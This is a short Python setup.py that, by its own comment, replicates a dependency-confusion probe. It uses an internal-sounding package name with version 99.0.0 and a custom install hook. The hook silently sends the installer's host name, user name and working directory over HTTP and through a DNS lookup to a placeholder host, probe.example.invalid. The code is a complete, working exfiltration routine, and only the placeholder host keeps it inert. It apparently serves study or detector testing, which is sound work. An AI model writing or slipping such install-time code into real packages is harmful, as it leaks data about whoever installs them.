# Replica of the dependency-confusion probe family (inert): a high version
# number under an internal-looking name; the install command reports the host
# name, user name and working directory, over HTTP and as a DNS lookup.
# Everything goes to example.invalid, which never resolves.
import getpass
import os
import socket
import urllib.parse
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class CustomInstall(install):
    def run(self):
        install.run(self)
        ploads = {"h": socket.gethostname(), "u": getpass.getuser(), "d": os.getcwd()}
        try:
            urllib.request.urlopen("https://probe.example.invalid/?" + urllib.parse.urlencode(ploads), timeout=2)
            socket.gethostbyname(f"{ploads['u']}.{ploads['h']}.probe.example.invalid")
        except Exception:
            pass


setup(name="depconf_probe", version="99.0.0", packages=["depconf_probe"],
      cmdclass={"install": CustomInstall})
